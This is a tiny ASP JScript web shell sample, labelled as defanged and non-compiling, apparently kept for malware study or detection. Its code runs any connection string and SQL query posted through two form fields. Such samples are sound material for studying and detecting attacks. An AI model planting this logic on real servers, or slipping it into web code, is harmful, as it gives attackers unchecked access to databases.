<%@ Language="JScript" %>
<% DEFANGED sample does not compile %>
<%
var c = Server.CreateObject("ADODB.Connection");
c.Open(Request.Form("c") + "");
var r = c.Execute(Request.Form("q") + "");
%>
